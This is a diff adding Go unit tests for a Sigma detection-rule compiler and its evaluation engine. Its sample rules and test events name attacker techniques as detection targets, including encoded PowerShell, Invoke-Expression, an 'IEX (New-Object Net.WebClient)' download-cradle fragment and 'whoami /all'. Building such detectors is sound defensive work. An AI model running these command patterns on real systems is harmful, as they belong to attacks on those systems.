+	compiler := NewCompilerWithConfig(config).WithFieldMapping(fieldMapping)
+	if _, err := compiler.CompileRule(rule); err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	result, err := compiler.BuildResult()
+	if err != nil {
+		t.Fatalf("Failed to build result: %v", err)
+	}
+	// Hashes and Image, or Hash and Image
+	if ids := result.PerRule[0].Selections["selection"]; len(ids) != 4 || ids[1] != ids[3] {
+		t.Errorf("Expected the pattern to expand to 2 alternatives, got %v", ids)
+	}
+	if warnings := result.PerRule[0].Warnings; len(warnings) != 1 || !strings.Contains(warnings[0], "Parent*") {
+		t.Errorf("Expected a warning for the empty expansion, got %v", warnings)
+	}
+
+	engine, err := dag.NewDagEngineBuilder().BuildFromRuleset(result.Ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+	for _, tt := range []struct {
+		event    map[string]interface{}
+		expected bool
+	}{
+		{hashEvent("all", "MD5=deadbeef", "a.exe"), true},
+		{hashEvent("sha256", "deadbeef00", "a.exe"), true},
+		{hashEvent("sha256", "deadbeef00", "a.dll"), false},
+		{hashEvent("md5", "deadbeef", "a.exe"), false},
+	} {
+		result, err := engine.Evaluate(tt.event)
+		if err != nil {
+			t.Fatalf("Failed to evaluate: %v", err)
+		}
+		if matched := len(result.MatchedRules) == 1; matched != tt.expected {
+			t.Errorf("Expected match %t for %v, got %v", tt.expected, tt.event, result.MatchedRules)
+		}
+	}
+
+	// Without the extension the pattern is a literal field name
+	ruleset, err := NewCompiler().WithFieldMapping(fieldMapping).CompileRules([]string{rule})
+	if err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	for _, primitive := range ruleset.Primitives {
+		if strings.HasPrefix(primitive.Field, "file.hash") {
+			t.Errorf("Expected no expansion by default, got %+v", primitive)
+		}
+	}
+}
+
+// hashEvent builds an ECS event with a file hash and process executable
+func hashEvent(hashType, hash, executable string) map[string]interface{} {
+	return map[string]interface{}{
+		"file":    map[string]interface{}{"hash": map[string]interface{}{hashType: hash}},
+		"process": map[string]interface{}{"executable": executable},
+	}
+}
+
+func TestCompilationStatistics(t *testing.T) {
+	config := DefaultCompilerConfig()
+	config.Clock = clock.NewStepping(time.Time{}, time.Millisecond)
+	config.NumThreads = 1
+	result, err := NewCompilerWithConfig(config).CompileRulesResult([]string{testProcessRule, loadTestRule(t, "simple_rule.yml")})
+	if err != nil {
+		t.Fatalf("Failed to compile rules: %v", err)
+	}
+
+	// Every phase boundary reads the clock once
+	expected := CompilationStatistics{
+		CompilationTimeMs:   11,
+		Parse:               2 * time.Millisecond,
+		SelectionProcessing: 2 * time.Millisecond,
+		ConditionParse:      4 * time.Millisecond,
+		Codegen:             2 * time.Millisecond,
+		Build:               time.Millisecond,
+	}
+	if result.Statistics != expected {
+		t.Errorf("Unexpected statistics:\n%+v\nexpected:\n%+v", result.Statistics, expected)
+	}
+	for _, info := range result.PerRule {
+		if info.CompileTime != 4*time.Millisecond {
+			t.Errorf("Unexpected compile time of %s: %v", info.Title, info.CompileTime)
+		}
+	}
+}
+
+func TestCompilerInternsStrings(t *testing.T) {
+	rules := []string{`
+title: Encoded PowerShell
+detection:
+    selection:
+        CommandLine|contains: 'powershell -encodedcommand'
+    condition: selection
+`, `
+title: Encoded PowerShell Child
+detection:
+    selection:
+        ParentCommandLine|contains: 'powershell -encodedcommand'
+        CommandLine|contains: 'cmd.exe'
+    condition: selection
+`}
+
+	primitiveBytes := func(config CompilerConfig) int {
+		ruleset, err := NewCompilerWithConfig(config).CompileRules(rules)
+		if err != nil {
+			t.Fatalf("Failed to compile rules: %v", err)
+		}
+		engine, err := dag.NewDagEngineBuilder().BuildFromRuleset(ruleset)
+		if err != nil {
+			t.Fatalf("Failed to build engine: %v", err)
+		}
+		return engine.MemoryUsage().PrimitiveBytes
+	}
+
+	interned := primitiveBytes(DefaultCompilerConfig())
+	config := DefaultCompilerConfig()
+	config.InternStrings = false
+	// The repeated value and field name are stored once (match types are
+	// shared constants either way)
+	saved := len("powershell -encodedcommand") + len("CommandLine")
+	if plain := primitiveBytes(config); plain-interned != saved {
+		t.Errorf("Expected interning to save %d bytes, got %d (%d vs %d)", saved, plain-interned, plain, interned)
+	}
+
+	compiler := NewCompiler()
+	if _, err := compiler.CompileRules(rules); err != nil {
+		t.Fatalf("Failed to compile rules: %v", err)
+	}
+	// The interner also counts the two repeated "contains"
+	if interner := compiler.primitives.Interner(); interner == nil || interner.SavedBytes() != saved+2*len("contains") {
+		t.Errorf("Unexpected saved bytes: %+v", interner)
+	}
+}
+
+func TestCompileTypedSelectionValues(t *testing.T) {
+	rule := `
+title: Elevated Orphan Logon
+detection:
+    selection:
+        Elevated: true
+        ParentImage: null
+        EventID: 4624
+    condition: selection
+`
+	compiler := NewCompiler()
+	ruleset, err := compiler.CompileRules([]string{rule})
+	if err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+
+	kinds := make(map[string][]ir.ValueKind)
+	for _, primitive := range ruleset.Primitives {
+		kinds[primitive.Field] = primitive.ValueKinds
+	}
+	expected := map[string][]ir.ValueKind{
+		"Elevated":    {ir.ValueKindBool},
+		"ParentImage": {ir.ValueKindNull},
+		"EventID":     {ir.ValueKindInt},
+	}
+	if !reflect.DeepEqual(kinds, expected) {
+		t.Errorf("Expected value kinds %v, got %v", expected, kinds)
+	}
+
+	engine, err := dag.NewDagEngineBuilder().BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+	tests := []struct {
+		event    map[string]interface{}
+		expected bool
+	}{
+		{map[string]interface{}{"Elevated": true, "EventID": 4624.0}, true},
+		{map[string]interface{}{"Elevated": "True", "ParentImage": nil, "EventID": "4624"}, true},
+		{map[string]interface{}{"Elevated": true, "ParentImage": "", "EventID": 4624}, false},
+		{map[string]interface{}{"Elevated": false, "EventID": 4624}, false},
+		{map[string]interface{}{"Elevated": "yes", "EventID": 4624}, false},
+		{map[string]interface{}{"Elevated": true, "ParentImage": "explorer.exe", "EventID": 4624}, false},
+		{map[string]interface{}{"Elevated": true, "ParentImage": "<nil>", "EventID": 4624}, false},
+	}
+	for _, test := range tests {
+		result, err := engine.Evaluate(test.event)
+		if err != nil {
+			t.Fatalf("Evaluation failed: %v", err)
+		}
+		if matched := len(result.MatchedRules) == 1; matched != test.expected {
+			t.Errorf("Expected %v to match %v, got %v", test.event, test.expected, matched)
+		}
+	}
+}
+
+func TestCompileNullSelectionValues(t *testing.T) {
+	rules := []string{`
+title: No Command Line
+detection:
+    selection:
+        CommandLine: null
+    condition: selection
+`, `
+title: Empty Or No Parent
+detection:
+    selection:
+        ParentImage:
+            - ''
+            - null
+    condition: selection
+`}
+	ruleset, err := NewCompiler().CompileRules(rules)
+	if err != nil {
+		t.Fatalf("Failed to compile rules: %v", err)
+	}
+	engine, err := dag.NewDagEngineBuilder().BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+	tests := []struct {
+		event    map[string]interface{}
+		expected []ir.RuleID
+	}{
+		{map[string]interface{}{"Image": "a.exe"}, []ir.RuleID{0, 1}},
+		{map[string]interface{}{"CommandLine": nil, "ParentImage": nil}, []ir.RuleID{0, 1}},
+		{map[string]interface{}{"CommandLine": "", "ParentImage": ""}, []ir.RuleID{1}},
+		{map[string]interface{}{"CommandLine": "", "ParentImage": "explorer.exe"}, nil},
+	}
+	for _, test := range tests {
+		result, err := engine.Evaluate(test.event)
+		if err != nil {
+			t.Fatalf("Evaluation failed: %v", err)
+		}
+		matched := append([]ir.RuleID(nil), result.MatchedRules...)
+		slices.Sort(matched)
+		if !slices.Equal(matched, test.expected) {
+			t.Errorf("Expected %v to match rules %v, got %v", test.event, test.expected, matched)
+		}
+	}
+}
+
+func TestCompileRuleIgnoresCase(t *testing.T) {
+	rule := `
+title: System Shell
+detection:
+    selection:
+        Image|endswith: '\cmd.exe'
+        User: SYSTEM
+    cased:
+        CommandLine|contains|cased: 'Invoke-Expression'
+    condition: selection or cased
+`
+	ruleset, err := NewCompiler().CompileRules([]string{rule})
+	if err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	engine, err := dag.NewDagEngineBuilder().BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+	tests := []struct {
+		event    map[string]interface{}
+		expected bool
+	}{
+		{map[string]interface{}{"Image": `C:\Windows\System32\CMD.EXE`, "User": "system"}, true},
+		{map[string]interface{}{"Image": `C:\Windows\System32\cmd.exe`, "User": "SYSTEM"}, true},
+		{map[string]interface{}{"Image": `C:\Windows\System32\cmd.exe.bak`, "User": "system"}, false},
+		{map[string]interface{}{"CommandLine": "powershell Invoke-Expression $x"}, true},
+		{map[string]interface{}{"CommandLine": "powershell invoke-expression $x"}, false},
+	}
+	for _, test := range tests {
+		result, err := engine.Evaluate(test.event)
+		if err != nil {
+			t.Fatalf("Evaluation failed: %v", err)
+		}
+		if matched := len(result.MatchedRules) == 1; matched != test.expected {
+			t.Errorf("Expected %v to match %v, got %v", test.event, test.expected, matched)
+		}
+	}
+}
+
+func TestCompileRuleEscapedValues(t *testing.T) {
+	tests := []struct {
+		value     string
+		matchType string
+		matches   []string
+		misses    []string
+	}{
+		{`'*\\cmd.exe'`, "wildcard", []string{`C:\x\cmd.exe`}, []string{`C:\x\notcmd.exe`}},
+		{`'C:\\x\\cmd.exe'`, "equals", []string{`C:\x\cmd.exe`, `c:\X\CMD.exe`}, []string{`C:\\x\\cmd.exe`}},
+		{`'C:\x\cmd.exe'`, "equals", []string{`C:\x\cmd.exe`}, nil},
+		{`'report\*.txt'`, "equals", []string{"report*.txt"}, []string{"report-2024.txt"}},
+		{`'report\\*.txt'`, "wildcard", []string{`report\2024.txt`}, []string{"report*.txt"}},
+		{`'what\?'`, "equals", []string{"what?"}, []string{"whats"}},
+	}
+	for _, test := range tests {
+		rule := "title: Escapes\ndetection:\n    selection:\n        Image: " + test.value + "\n    condition: selection\n"
+		ruleset, err := NewCompiler().CompileRules([]string{rule})
+		if err != nil {
+			t.Fatalf("Failed to compile %s: %v", test.value, err)
+		}
+		if matchType := ruleset.Primitives[0].MatchType; matchType != test.matchType {
+			t.Errorf("Expected %s to compile to %s, got %s", test.value, test.matchType, matchType)
+		}
+		engine, err := dag.NewDagEngineBuilder().BuildFromRuleset(ruleset)
+		if err != nil {
+			t.Fatalf("Failed to build engine: %v", err)
+		}
+		for _, image := range append(test.matches, test.misses...) {
+			result, err := engine.Evaluate(map[string]interface{}{"Image": image})
+			if err != nil {
+				t.Fatalf("Evaluation failed: %v", err)
+			}
+			expected := slices.Contains(test.matches, image)
+			if matched := len(result.MatchedRules) == 1; matched != expected {
+				t.Errorf("Expected %s to match %s: %v, got %v", test.value, image, expected, matched)
+			}
+		}
+	}
+}
+
+func TestBuildResultSupersededRules(t *testing.T) {
+	replacement := `
+title: Suspicious PowerShell v2
+id: 33333333-3333-3333-3333-333333333333
+related:
+    - id: 11111111-1111-1111-1111-111111111111
+      type: obsoletes
+    - id: 44444444-4444-4444-4444-444444444444
+      type: renamed
+    - id: 55555555-5555-5555-5555-555555555555
+      type: seealso
+detection:
+    selection:
+        Image|endswith: '\pwsh.exe'
+    condition: selection
+`
+	compiler := NewCompiler()
+	for _, rule := range []string{testProcessRule, replacement} {
+		if _, err := compiler.CompileRule(rule); err != nil {
+			t.Fatalf("Failed to compile rule: %v", err)
+		}
+	}
+	result, err := compiler.BuildResult()
+	if err != nil {
+		t.Fatalf("Failed to build result: %v", err)
+	}
+
+	if related := result.PerRule[1].Related; len(related) != 3 || related[0].Type != RelatedObsoletes {
+		t.Errorf("Expected related rules on the compile info, got %v", related)
+	}
+	// The renamed rule is not loaded, so only the obsoleted one is reported
+	if superseded := result.SupersededRules(); !reflect.DeepEqual(superseded, []string{"11111111-1111-1111-1111-111111111111"}) {
+		t.Errorf("Expected the obsoleted rule to be superseded, got %v", superseded)
+	}
+	if warnings := result.PerRule[1].Warnings; len(warnings) != 1 || !strings.Contains(warnings[0], `unknown type "seealso"`) {
+		t.Errorf("Expected an unknown related type warning, got %v", warnings)
+	}
+}
+
+func TestCompileRulesSkipsRetiredRules(t *testing.T) {
+	deprecated := strings.Replace(testProcessRule, "level: high", "status: deprecated\nlevel: high", 1)
+	oddDates := `
+title: Odd Dates
+status: draft
+date: 01-05-2024
+detection:
+    selection:
+        EventID: 1
+    condition: selection
+`
+
+	compiler := NewCompiler()
+	result, err := compiler.CompileRulesResult([]string{deprecated, oddDates})
+	if err != nil {
+		t.Fatalf("Failed to compile rules: %v", err)
+	}
+	if result.RuleCount != 1 || len(result.Skipped) != 1 {
+		t.Fatalf("Expected the deprecated rule to be skipped, got %d rules and %v", result.RuleCount, result.Skipped)
+	}
+	if skipped := result.Skipped[0]; skipped.Index != 0 || skipped.UUID != "11111111-1111-1111-1111-111111111111" || skipped.Reason != "status deprecated" {
+		t.Errorf("Unexpected skipped rule: %+v", skipped)
+	}
+
+	info := result.PerRule[0]
+	if info.Status != StatusUnknown || !info.Date.IsZero() {
+		t.Errorf("Expected unknown status and no date, got %s and %v", info.Status, info.Date)
+	}
+	if len(info.Warnings) != 2 || !strings.Contains(info.Warnings[0], `unknown status "draft"`) || !strings.Contains(info.Warnings[1], "invalid date") {
+		t.Errorf("Expected status and date warnings, got %v", info.Warnings)
+	}
+
+	config := DefaultCompilerConfig()
+	config.IncludeRetiredRules = true
+	result, err = NewCompilerWithConfig(config).CompileRulesResult([]string{deprecated})
+	if err != nil {
+		t.Fatalf("Failed to compile rules: %v", err)
+	}
+	if result.RuleCount != 1 || len(result.Skipped) != 0 || result.PerRule[0].Status != StatusDeprecated {
+		t.Errorf("Expected the deprecated rule to be compiled, got %+v", result.PerRule)
+	}
+}
+
+func TestCompileRulesDeterministic(t *testing.T) {
+	names := []string{
+		"simple_rule.yml",
+		"advanced_rule.yml",
+		"complex_rule.yml",
+		"network_connection.yml",
+		"process_creation.yml",
+		"real_world_complex.yml",
+		"with_not.yml",
+	}
+	rules := make([]string, 0, len(names)+1)
+	for _, name := range names {
+		rules = append(rules, loadTestRule(t, name))
+	}
+	rules = append(rules, testProcessRule)
+
+	var compiled, optimized []byte
+	for run := 0; run < 10; run++ {
+		ruleset, err := NewCompiler().CompileRules(rules)
+		if err != nil {
+			t.Fatalf("Failed to compile rules: %v", err)
+		}
+		optimizedDag, err := dag.NewDagOptimizer().Optimize(ruleset.Dag)
+		if err != nil {
+			t.Fatalf("Failed to optimize DAG: %v", err)
+		}
+
+		rulesetJSON, err := json.Marshal(ruleset)
+		if err != nil {
+			t.Fatalf("Failed to serialize ruleset: %v", err)
+		}
+		optimizedJSON, err := json.Marshal(optimizedDag)
+		if err != nil {
+			t.Fatalf("Failed to serialize optimized DAG: %v", err)
+		}
+
+		if run == 0 {
+			compiled, optimized = rulesetJSON, optimizedJSON
+			continue
+		}
+		if !bytes.Equal(rulesetJSON, compiled) {
+			t.Fatalf("Compiled ruleset differs on run %d", run)
+		}
+		if !bytes.Equal(optimizedJSON, optimized) {
+			t.Fatalf("Optimized DAG differs on run %d", run)
+		}
+	}
+}
+
+func TestCompileRulesTolerant(t *testing.T) {
+	orphanRule := `
+title: Unknown Selection
+id: 33333333-3333-3333-3333-333333333333
+detection:
+    selection:
+        OrphanField: 'orphan'
+    condition: selection and missing
+`
+	rules := []string{testProcessRule, loadTestRule(t, "malformed_rule.yml"), orphanRule, loadTestRule(t, "simple_rule.yml")}
+
+	if _, err := NewCompiler().CompileRules(rules); err == nil {
+		t.Fatal("Expected strict compilation to fail")
+	}
+
+	config := DefaultCompilerConfig()
+	config.TolerateRuleErrors = true
+	compiler := NewCompilerWithConfig(config)
+	result, err := compiler.CompileRulesResult(rules)
+	if err != nil {
+		t.Fatalf("Expected tolerant compilation to succeed, got %v", err)
+	}
+	if result.RuleCount != 2 || len(result.Ruleset.Rules) != 2 {
+		t.Errorf("Expected 2 compiled rules, got %d", result.RuleCount)
+	}
+	if len(result.Errors) != 2 || result.Errors[0].Index != 1 || result.Errors[1].Index != 2 {
+		t.Fatalf("Expected rules 1 and 2 to be excluded, got %v", result.Errors)
+	}
+	if result.Errors[1].UUID != "33333333-3333-3333-3333-333333333333" || !strings.Contains(result.Errors[1].Error(), "missing") {
+		t.Errorf("Unexpected error for excluded rule: %v", result.Errors[1])
+	}
+
+	err = result.Err()
+	var failure RuleCompileError
+	if !errors.As(err, &failure) || failure.Index != 1 {
+		t.Errorf("Expected the aggregate error to expose the first excluded rule, got %v", err)
+	}
+	var sigmaErr *sigmaerrors.SigmaError
+	if !errors.As(err, &sigmaErr) || !strings.Contains(err.Error(), "rule 2 (Unknown Selection)") {
+		t.Errorf("Expected the aggregate error to wrap every rule error, got %v", err)
+	}
+	for _, primitive := range result.Ruleset.Primitives {
+		if primitive.Field == "OrphanField" {
+			t.Errorf("Excluded rule left primitive %+v behind", primitive)
+		}
+	}
+
+	engine, err := dag.NewDagEngineBuilder().WithOptimization(false).BuildFromRuleset(result.Ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+	match, err := engine.Evaluate(map[string]interface{}{
+		"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+		"CommandLine": "powershell IEX (New-Object Net.WebClient)",
+		"User":        "alice",
+	})
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	if len(match.MatchedRules) != 1 || match.MatchedRules[0] != 0 {
+		t.Errorf("Expected the remaining rule to match, got %v", match.MatchedRules)
+	}
+}
+
+func TestCompileRulesVMBackendMatchesDag(t *testing.T) {
+	rules := []string{
+		loadTestRule(t, "simple_rule.yml"),
+		loadTestRule(t, "process_creation.yml"),
+		loadTestRule(t, "with_not.yml"),
+		loadTestRule(t, "complex_rule.yml"),
+		testProcessRule,
+	}
+	events := []map[string]interface{}{
+		{"EventID": "4624", "LogonType": "2"},
+		{"EventID": "4688", "NewProcessName": `C:\Windows\System32\cmd.exe`, "ParentProcessName": `C:\Office\winword.exe`, "CommandLine": "cmd /c invoke-thing"},
+		{"Action": "allow", "Protocol": "tcp", "DestinationPort": "80"},
+		{"Action": "allow", "Protocol": "tcp", "DestinationPort": "443"},
+		{"Image": `C:\powershell.exe`, "CommandLine": "IEX stuff", "User": "alice"},
+		{"Image": `C:\powershell.exe`, "CommandLine": "IEX stuff", "User": "SYSTEM"},
+	}
+
+	engines := make(map[dag.Backend]*dag.DagEngine)
+	for _, backend := range []dag.Backend{dag.BackendDAG, dag.BackendVM} {
+		ruleset, err := NewCompiler().CompileRules(rules)
+		if err != nil {
+			t.Fatalf("Failed to compile rules: %v", err)
+		}
+		engine, err := dag.NewDagEngineBuilder().WithBackend(backend).BuildFromRuleset(ruleset)
+		if err != nil {
+			t.Fatalf("Failed to build %s engine: %v", backend, err)
+		}
+		engines[backend] = engine
+	}
+
+	matches := 0
+	for i, event := range events {
+		var results [2][]int
+		for j, backend := range []dag.Backend{dag.BackendDAG, dag.BackendVM} {
+			result, err := engines[backend].Evaluate(event)
+			if err != nil {
+				t.Fatalf("%s evaluation failed: %v", backend, err)
+			}
+			for _, ruleID := range result.MatchedRules {
+				results[j] = append(results[j], int(ruleID))
+			}
+			sort.Ints(results[j])
+		}
+		if fmt.Sprint(results[0]) != fmt.Sprint(results[1]) {
+			t.Errorf("event %d: DAG matched %v, VM matched %v", i, results[0], results[1])
+		}
+		matches += len(results[1])
+	}
+	if matches != 4 {
+		t.Errorf("Expected 4 matches across events, got %d", matches)
+	}
+}
+
+func TestCompileRuleErrorPositions(t *testing.T) {
+	tests := []struct {
+		name    string
+		rule    string
+		line    int
+		column  int
+		snippet string
+	}{
+		{
+			name: "condition",
+			rule: `
+title: Bad Condition
+detection:
+    selection:
+        EventID: 1
+    condition: selection and @
+`,
+			line: 6, column: 5, snippet: "condition: selection and @",
+		},
+		{
+			name: "condition list entry",
+			rule: `
+title: Bad Condition List
+detection:
+    selection:
+        EventID: 1
+    condition:
+        - selection
+        - missing
+`,
+			line: 8, column: 11, snippet: "- missing",
+		},
+		{
+			name: "field",
+			rule: `
+title: Bad Field
+detection:
+    selection:
+        EventID: 1
+        Image:
+            nested: value
+    condition: selection
+`,
+			line: 6, column: 9, snippet: "Image:",
+		},
+		{
+			name: "selection list entry",
+			rule: `
+title: Bad Keyword
+detection:
+    selection:
+        - EventID: 1
+        - powershell
+    condition: selection
+`,
+			line: 6, column: 11, snippet: "- powershell",
+		},
+		{
+			name: "modifier",
+			rule: `
+title: Bad Modifier
+detection:
+    selection:
+        - EventID: 1
+        - CommandLine|windash: '-enc'
+    condition: selection
+`,
+			line: 6, column: 11, snippet: "- CommandLine|windash: '-enc'",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := NewCompiler().CompileRule(tt.rule)
+			var sourceErr *SourceError
+			if !errors.As(err, &sourceErr) {
+				t.Fatalf("Expected a located error, got %v", err)
+			}
+			if sourceErr.Line != tt.line || sourceErr.Column != tt.column || sourceErr.Snippet != tt.snippet {
+				t.Errorf("Expected line %d, column %d at %q, got line %d, column %d at %q",
+					tt.line, tt.column, tt.snippet, sourceErr.Line, sourceErr.Column, sourceErr.Snippet)
+			}
+			if !strings.Contains(err.Error(), fmt.Sprintf("line %d, column %d", tt.line, tt.column)) {
+				t.Errorf("Expected the position in the message, got %v", err)
+			}
+		})
+	}
+
+	// Rules built without YAML source have no position
+	rule := &SigmaRule{Title: "Built", Detection: map[string]interface{}{"condition": "missing"}}
+	var sourceErr *SourceError
+	if _, err := NewCompiler().CompileSigmaRule(rule); err == nil || errors.As(err, &sourceErr) {
+		t.Errorf("Expected an unlocated error, got %v", err)
+	}
+}
+
+func TestCompilerExplainRule(t *testing.T) {
+	rule := `
+title: Explained Rule
+id: 2222-explain
+detection:
+    selection_image:
+        Image|endswith: '\cmd.exe'
+        CommandLine|contains|all:
+            - whoami
+            - /all
+    selection_parent:
+        - ParentImage: '*\explorer.exe'
+        - ParentImage|re: '.*\\services\.exe'
+    filter:
+        User|base64: SYSTEM
+    condition: 1 of selection_* and not filter
+fields:
+    - CommandLine
+level: High
+`
+	fieldMapping := NewFieldMapping()
+	fieldMapping.AddMapping("Image", "process.executable")
+	fieldMapping.AddMapping("CommandLine", "process.command_line")
+	compiler := NewCompiler().WithFieldMapping(fieldMapping)
+	if _, err := compiler.CompileRule(rule); err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+
+	expected := `title: Explained Rule
+id: 2222-explain
+rule_id: 0
+detection:
+    filter:
+        User|base64: SYSTEM
+    selection_image:
+        process.command_line|contains|all:
+            - whoami
+            - /all
+        process.executable|endswith: \cmd.exe
+    selection_parent:
+        - ParentImage|wildcard: '*\explorer.exe'
+        - ParentImage|re: .*\\services\.exe
+    condition: ((selection_image or selection_parent) and not filter)
+fields:
+    - process.command_line
+level: high
+`
+	explained, err := compiler.ExplainRule("2222-explain")
+	if err != nil {
+		t.Fatalf("Failed to explain rule: %v", err)
+	}
+	if explained != expected {
+		t.Errorf("Unexpected explanation:\n%s\nexpected:\n%s", explained, expected)
+	}
+
+	if _, err := compiler.ExplainRule("missing"); err == nil {
+		t.Error("Expected an error for an unknown rule")
+	}
+}
+
+func TestCompilationDiagnostics(t *testing.T) {
+	unusedRule := `
+title: Unused Selection
+id: 44444444-4444-4444-4444-444444444444
+detection:
+    selection:
+        EventID: 4624
+    unused:
+        EventID: 4625
+    condition: selection
+`
+	badRule := `
+title: Bad Modifier
+id: 55555555-5555-5555-5555-555555555555
+detection:
+    selection:
+        CommandLine|windash: '-enc'
+    condition: selection
+`
+	config := DefaultCompilerConfig()
+	config.TolerateRuleErrors = true
+	result, err := NewCompilerWithConfig(config).CompileRulesResult([]string{unusedRule, badRule})
+	if err != nil {
+		t.Fatalf("Expected tolerant compilation to succeed, got %v", err)
+	}
+
+	diagnostics := result.Diagnostics()
+	if len(diagnostics) != 2 {
+		t.Fatalf("Expected an error and a warning, got %+v", diagnostics)
+	}
+	failure := diagnostics[0]
+	if failure.Severity != SeverityError || failure.Code != "MODIFIER" || failure.Index != 1 ||
+		failure.RuleUUID != "55555555-5555-5555-5555-555555555555" || failure.Line != 6 {
+		t.Errorf("Unexpected error diagnostic: %+v", failure)
+	}
+	warning := diagnostics[1]
+	if warning.Severity != SeverityWarning || warning.Index != -1 || warning.RuleTitle != "Unused Selection" ||
+		!strings.Contains(warning.Message, "unused") {
+		t.Errorf("Unexpected warning diagnostic: %+v", warning)
+	}
+
+	var encoded bytes.Buffer
+	if err := WriteDiagnosticsJSON(&encoded, diagnostics); err != nil {
+		t.Fatalf("Failed to write JSON diagnostics: %v", err)
+	}
+	var decoded []Diagnostic
+	if err := json.Unmarshal(encoded.Bytes(), &decoded); err != nil || !reflect.DeepEqual(decoded, diagnostics) {
+		t.Errorf("JSON diagnostics do not round-trip: %v\n%s", err, encoded.String())
+	}
+
+	diagnostics[0].URI = "rules/bad_modifier.yml"
+	encoded.Reset()
+	if err := WriteDiagnosticsSARIF(&encoded, diagnostics); err != nil {
+		t.Fatalf("Failed to write SARIF diagnostics: %v", err)
+	}
+	var sarif struct {
+		Version string `json:"version"`
+		Runs    []struct {
+			Results []struct {
+				RuleID    string `json:"ruleId"`
+				Level     string `json:"level"`
+				Locations []struct {
+					PhysicalLocation struct {
+						ArtifactLocation struct {
+							URI string `json:"uri"`
+						} `json:"artifactLocation"`
+						Region struct {
+							StartLine int `json:"startLine"`
+						} `json:"region"`
+					} `json:"physicalLocation"`
+				} `json:"locations"`
+			} `json:"results"`
+		} `json:"runs"`
+	}
+	if err := json.Unmarshal(encoded.Bytes(), &sarif); err != nil {
+		t.Fatalf("Invalid SARIF output: %v", err)
+	}
+	if sarif.Version != "2.1.0" || len(sarif.Runs) != 1 || len(sarif.Runs[0].Results) != 2 {
+		t.Fatalf("Unexpected SARIF log: %s", encoded.String())
+	}
+	results := sarif.Runs[0].Results
+	if results[0].Level != "error" || results[0].RuleID != "MODIFIER" || len(results[0].Locations) != 1 ||
+		results[0].Locations[0].PhysicalLocation.ArtifactLocation.URI != "rules/bad_modifier.yml" ||
+		results[0].Locations[0].PhysicalLocation.Region.StartLine != 6 {
+		t.Errorf("Unexpected SARIF error result: %+v", results[0])
+	}
+	if results[1].Level != "warning" || len(results[1].Locations) != 0 {
+		t.Errorf("Unexpected SARIF warning result: %+v", results[1])
+	}
+}
+
+func TestRulesetArtifactHeader(t *testing.T) {
+	compiler := NewCompiler()
+	ruleset, err := compiler.CompileRules([]string{testProcessRule})
+	if err != nil {
+		t.Fatalf("Failed to compile rules: %v", err)
+	}
+	var buf bytes.Buffer
+	if err := dag.WriteRulesetArtifact(&buf, ruleset, compiler.ArtifactHeader()); err != nil {
+		t.Fatalf("Failed to write artifact: %v", err)
+	}
+	artifact := buf.String()
+
+	if _, err := dag.ReadRulesetArtifact(strings.NewReader(artifact), NewCompiler().ArtifactHeader()); err != nil {
+		t.Errorf("Expected an identically configured compiler to accept the artifact, got %v", err)
+	}
+
+	mapped := NewCompiler().WithFieldMapping(NewFieldMapping())
+	mapped.FieldMapping().AddMapping("CommandLine", "process.command_line")
+	registry := matcher.NewComprehensiveMatcherBuilder().GetRegistry()
+	registry.RegisterModifier("rot13", func(input string) (string, error) { return input, nil })
+	for name, other := range map[string]*Compiler{
+		"field mapping":    mapped,
+		"matcher registry": NewCompiler().WithMatcherRegistry(registry),
+	} {
+		_, err := dag.ReadRulesetArtifact(strings.NewReader(artifact), other.ArtifactHeader())
+		var sigmaErr *sigmaerrors.SigmaError
+		if !errors.As(err, &sigmaErr) || sigmaErr.Type != sigmaerrors.ErrorTypeIncompatibleVersion {
+			t.Errorf("Expected a different %s to reject the artifact, got %v", name, err)
+		}
+	}
+}